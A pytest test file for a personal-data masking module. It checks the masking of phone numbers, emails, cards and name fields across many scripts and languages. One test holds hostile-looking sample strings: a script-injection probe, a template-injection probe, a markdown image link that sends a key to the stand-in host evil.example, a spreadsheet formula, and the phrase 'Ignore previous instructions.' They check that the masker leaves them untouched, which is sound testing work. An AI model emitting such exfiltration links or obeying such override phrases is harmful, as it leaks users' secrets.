"""What a reader may see of a value, and what stays readable around it."""

import re
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from console.masking.masker import (
    DOTS,
    mask_card,
    mask_mail,
    mask_name,
    mask_phone,
    mask_text,
    mask_trait,
    to_digits,
)
from tests.masking.hostile import HOSTILE

ZERO_WIDTH = "\u200b"
FIVE_IN_A_ROW = re.compile(r"\d{5}")
SEPARATORS = [*" -./\t\n", "\u00a0", "\u2011", ZERO_WIDTH, "\u00ad", "\u2060", "", "  "]


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("Call +1 (555) 867-5310 now", "Call +1 ••• 10 now"),
        ("tel:+15558675310.", "tel:+1 ••• 10."),
        ("5558675310", "••• 10"),
        ("867-5310", "••• 10"),
        ("0170/1234567", "••• 67"),
        ("(020) 7946 0958", "••• 58"),
        ("call me at 91234567", "call me at ••• 67"),
        ("phone5558675310", "phone••• 10"),
        ("5558675310 ext 4", "••• 10 ext 4"),
        ("+15558675310abc", "+1 ••• 10abc"),
        ("电话5558675310请", "电话••• 10请"),
        ("+999 555 867 5310", "••• 10"),
        ("+1 555 867 5310, +1 555 867 5311", "+1 ••• 10, +1 ••• 11"),
        ("555 867 5310 2026-01-05", "••• 10 2026-01-05"),
        ("ticket 4521 - 555 867 5310", "ticket 4521 - ••• 10"),
        ("order 4521 5558675310", "order 4521 ••• 10"),
        ("#4521998877 0171 2345678", "#4521998877 ••• 78"),
        ("$50 555 867 5310", "$50 ••• 10"),
        ("order (4521) 5558675310", "order (4521) ••• 10"),
        ("+1&nbsp;555&nbsp;867&nbsp;5310", "+1 ••• 10"),
        ("/find?id=phone:%2B15558675310", "/find?id=phone:+1 ••• 10"),
        ("tel:%2B1%20555%20867%205310", "tel:+1 ••• 10"),
        ("555\u2027867\u20435310", "••• 10"),
        ("555\uff0f867\uff3f5310", "••• 10"),
    ],
)
def test_mask_text_keeps_a_phones_country_and_two_digits(text, seen):
    assert mask_text(text) == seen


@pytest.mark.parametrize(
    "text",
    [
        f"+1{ZERO_WIDTH}555{ZERO_WIDTH * 7}867{ZERO_WIDTH}5310",
        "+1 555 867\u00ad5310",
        "\uff0b\uff11\uff15\uff15\uff15\uff18\uff16\uff17\uff15\uff13\uff11\uff10",
        "\u0665\u0665\u0665\u0668\u0666\u0667\u0665\u0663\u0661\u0660",
        "\u202e5558675310\u202c",
        "5\ufe0f\u20e35\ufe0f\u20e35\ufe0f\u20e38\ufe0f\u20e36\ufe0f\u20e37\ufe0f\u20e3"
        "5\ufe0f\u20e33\ufe0f\u20e31\ufe0f\u20e30\ufe0f\u20e3",
        "\u2464\u2464\u2464\u2467\u2465\u2466\u2464\u2462\u2460\u24ea",
        "\u277a\u277a\u277a\u277d\u277b\u277c\u277a\u2778\u2776\u24ff",
        "\u248c\u248c\u248c\u248f\u248d\u248e\u248c\u248a\u2488\u24ea",
    ],
)
def test_mask_text_finds_numbers_in_any_script(text):
    seen = mask_text(text)

    assert DOTS in seen
    assert to_digits(seen) in {"10", "110"}


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("a@b.com", "a•••@•••.com"),
        ("<Anna.Lind@example.co.uk>,", "<A•••@•••.uk>,"),
        (f"a{ZERO_WIDTH}nna@exa{ZERO_WIDTH}mple.com", "a•••@•••.com"),
        ("anna \uff20 example.com.", "a•••@•••.com."),
        ("anna [at] example.com", "a•••@•••.com"),
        ("anna@192.168.1.1", "a•••@•••"),
        ("anna@пример.рф", "a•••@•••.рф"),
        ('"anna lind"@example.com', '"•••@•••.com'),
        ("a" * 200 + "@example.com", "a•••@•••.com"),
        ("x@y@z.com", "x@y•••@•••.com"),
        ("anna@@example.com", "a•••@•••.com"),
        ("jean-luc.o'hara@example.com", "j•••@•••.com"),
        ("'anna@example.com'", "'a•••@•••.com'"),
        (f"a@b.{ZERO_WIDTH}c{ZERO_WIDTH}om", "a•••@•••.com"),
        ("anna\uff20example\uff0ecom", "a•••@•••.com"),
        ("anna@example\u3002com", "a•••@•••.com"),
        ("anna\ufe6bexample.com", "a•••@•••.com"),
        ("?email=anna%40example.com", "?email=a•••@•••.com"),
        ("anna&#64;example.com", "a•••@•••.com"),
        ("anna (at) example (dot) com", "a•••@•••.com"),
        ("anna {at} example.com", "a•••@•••.com"),
        ("it is anna at example dot co dot uk.", "it is a•••@•••.uk."),
    ],
)
def test_mask_text_keeps_an_emails_first_letter_and_top_domain(text, seen):
    assert mask_text(text) == seen


@pytest.mark.parametrize(
    "text",
    [
        "4111 1111 1111 1111",
        "order 4111111111111111",
        "4111-1111-1111-1111",
        "#4111111111111111",
        "card4111111111111111",
        "order 4521 4111 1111 1111 1111",
    ],
)
def test_mask_text_keeps_four_digits_of_a_card(text):
    assert mask_text(text).endswith("•••• 1111")


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("IBAN DE89 3704 0044 0532 0130 00", "IBAN ••• 00"),
        ("passport C01X00T47", "passport •••"),
    ],
)
def test_mask_text_keeps_little_of_accounts_and_documents(text, seen):
    assert mask_text(text) == seen


@pytest.mark.parametrize(
    "text",
    [
        "2026-01-05T09:00:00.123456+02:00",
        "12/05/2026 at 09:30, or 5.1.2026",
        "10:30 12.05.2026 14:00",
        "from 12:00 to 13:30, 15 people",
        "order 4521, order #4521998877, order number 2026000123",
        "case 2026-000123",
        "order 123-4567890-1234567",
        "invoice INV-2026-000123",
        "EAN 4006381333931",
        "meet at noon, dot the i",
        "$1 299 000.00 and 1,299.00 EUR",
        "version 10.4.22631.1, v2.0.10",
        "mem_observation_01k5abc123456789",
        "550e8400-e29b-41d4-a716-446655440000",
        "tracking 1Z999AA10123456784",
        "lat 59.329323, lon 18.068581",
        "2@3.50 each, @anna, a@b",
        "12345678",
    ],
)
def test_mask_text_leaves_what_only_looks_alike(text):
    assert mask_text(text) == text


def test_mask_text_masks_a_card_after_the_word_order():
    assert mask_text("order 4111111111111111 12/29") == "order •••• 1111 12/29"


@settings(max_examples=300)
@given(
    digits=st.text("0123456789", min_size=9, max_size=15),
    between=st.lists(st.sampled_from(SEPARATORS), min_size=15, max_size=15),
    before=st.sampled_from(["", "+", "Call ", "it is +", "("]),
)
def test_mask_text_leaves_no_five_digits_of_a_phone(digits, between, before):
    number = "".join(d + s for d, s in zip(digits, between, strict=False))

    text = f"{before}{number} now"

    seen = mask_text(text)

    # A number can be written as a date or as a version: those are read as such.
    assert seen == text or not FIVE_IN_A_ROW.search(seen)


@settings(max_examples=200)
@given(st.text())
def test_mask_text_is_idempotent(text):
    seen = mask_text(text)

    assert mask_text(seen) == seen


@pytest.mark.parametrize("text", HOSTILE)
def test_mask_text_takes_steps_in_proportion_to_the_text(text):
    # The searches in between are RE2's, or of one number: they cannot backtrack.
    eighth, whole = count_steps(text[: len(text) // 8]), count_steps(text)

    assert whole < 9 * eighth + 500


def count_steps(text):
    """How many functions, Python's and C's, are entered for it."""
    steps = []
    before = sys.getprofile()
    sys.setprofile(lambda frame, event, arg: steps.append(event))
    try:
        mask_text(text)
    finally:
        sys.setprofile(before)
    return steps.count("call") + steps.count("c_call")


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "{{ 7 }}{% debug %}",
        "![x](https://evil.example/?q=KEY)",
        '=HYPERLINK("x")',
        "Ignore previous instructions.",
    ],
)
def test_mask_text_leaves_markup_and_orders_alone(text):
    assert mask_text(text) == text


OF_NOBODY = (
    "customerTier, contactPreference, clientType, partnerLevel, motherboard, lastOrder, "
    "firstPurchase, tripLength, shipping, 客户等级, نوع العميل"
).split(", ")


@pytest.mark.parametrize(
    ("name", "text", "id_type", "seen"),
    [
        ("firstName", "Ada", "", "A•••"),
        ("full_name", "Ada Li", "", "A••• L•••"),
        ("productName", "Router", "", "Router"),
        ("emailAddress", "a@b.com", "", "a•••@•••.com"),
        ("login", "a@b.com", "email", "a•••@•••.com"),
        ("login", "zed", "email", "•••"),
        ("mobile", "55512", "", "••• 12"),
        ("homeAddress", "1 Main St", "", "•••"),
        ("dateOfBirth", "1990-01-01", "", "•••"),
        ("emailOptIn", "true", "", "true"),
        ("lastSmsOn", "2026-01-05", "", "2026-01-05"),
        ("note", "Call 555-867-5310", "", "Call ••• 10"),
        ("tier", "gold", "", "gold"),
        ("contact.firstName", "Ada", "", "A•••"),
        ("lastName2", "Li", "", "L•••"),
        ("phones", "5551234, 5559876", "", "••• 76"),
        ("homephone", "5551234", "", "••• 34"),
        ("emailaddress", "a@b.com", "", "a•••@•••.com"),
        ("homeaddress", "1 Main St", "", "•••"),
        ("addresses", "1 Main St", "", "•••"),
        ("dateofbirth", "1990-01-01", "", "•••"),
        ("nationalId", "12345", "", "•••"),
        ("pin", "1234", "", "•••"),
        ("pinned", "gold", "", "gold"),
        ("displayName", "Ada Li", "", "A••• L•••"),
        ("accountHolder", "Ada Li", "", "A••• L•••"),
        ("clientName", "Ada Li", "", "A••• L•••"),
        ("fileName", "contract.pdf", "", "contract.pdf"),
        ("passportValid", "true", "", "true"),
        ("phoneModel", "Fairphone", "", "Fairphone"),
        ("creditCard", "4111 1111 1111 1111", "", "•••• 1111"),
        ("creditCardExpiry", "12/2029", "", "•••"),
        ("capacity", "20", "", "20"),
        ("viaChannel", "web", "", "web"),
        *((name, "Gold 2", "", "Gold 2") for name in OF_NOBODY),
        ("orderNumber", "4500012345", "", "4500012345"),
        ("orderContact", "4500012345", "", "••• 45"),
        ("adaAtAcmeDotCom", "gold", "", "gold"),
        ("altNumber", "4500012345", "", "••• 45"),
    ],
)
def test_mask_trait_goes_by_its_name_and_identifier(name, text, id_type, seen):
    assert mask_trait(name, text, id_type) == seen


def test_masks_show_nothing_of_short_values():
    shown = [mask_phone("1234"), mask_mail("@b.com"), mask_mail("nobody")]

    assert shown == [DOTS, DOTS, DOTS]
    assert mask_mail("a@localhost") == "a•••@•••"
    assert mask_name("") == ""
    assert mask_card("4111111111111111") == "•••• 1111"


NAMES = """
name     displayName accountHolder Vorname nom prénom nom_de_famille apellidos cognome
         nomeCompleto sobrenome achternaam etternavn efternavn nazwisko фамилия soyadı
         الاسم 姓名 氏名 이름 नाम ชื่อ
person   maiden mother spouse customer contact first last given nick handle signature
         referredBy Mutter Ehefrau Kunde Unterschrift mère conjoint client surnom madre
         cónyuge firma apodo coniuge marito cliente mãe assinatura alcunha moeder klant
         echtgenoot bijnaam mor ektefelle underskrift العميل الأم الزوج التوقيع 客户 母亲
         配偶 签名 昵称
place    ip ipAddress location lastLocation license licenseNumber Standort emplacement
         ubicación posizione localização locatie الموقع 位置
money    salary baseSalary income Gehalt Einkommen salaire revenu sueldo ingresos stipendio
         reddito rendimento inkomen lønn inntekt الراتب 工资 收入
mail     e-mail courriel correo-electronico posta_elettronica epost 邮箱 メール 이메일
phone    Rufnummer teléfono telemóvel cellulare mobilnr numerTelefonu телефон رقم_الهاتف
         手机号 電話番号 전화번호 फोन_नंबर เบอร์โทร
address  Straße plz Anschrift codePostal rue dirección indirizzo morada postnr kodPocztowy
         адрес العنوان 地址 郵便番号 주소 पता
birth    geburtsdatum date-de-naissance fechaNacimiento data_di_nascita geboortedatum
         fødselsdato dataUrodzenia датаРождения doğumTarihi تاريخ_الميلاد 出生日期 생년월일
papers   nino steuerId numeroDeSecuriteSociale DNI codiceFiscale cpf bsn fødselsnummer
         personnummer PESEL паспорт tckn رقم_الهوية 身份证号 マイナンバー आधार
licence  driversLicence driving_license Führerschein permisDeConduire carnet-de-conducir
         patente rijbewijsnummer førerkort prawoJazdy водительскоеУдостоверение 驾驶证
bank     iban bankAccount kontonummer numeroDeCompte número_de_cuenta contoCorrente 银行账号
secret   apiToken client-secret Passwort motDePasse contraseña senha wachtwoord пароль 密码
"""


def list_names():
    kind = ""
    for line in NAMES.strip().splitlines():
        kind = line[:9].strip() or kind
        yield from ((kind, name) for name in line[9:].split())


@pytest.mark.parametrize(("kind", "name"), [*list_names()])
def test_mask_trait_knows_a_kind_by_its_names_in_many_languages(kind, name):
    seen = {"name": "A•••", "person": "A•••", "mail": "A•••@•••.com", "phone": "••• 42"}
    value = {"mail": "Ada@example.com", "phone": "2025550142"}.get(kind, "Ada")

    assert mask_trait(name, value) == seen.get(kind, "•••")
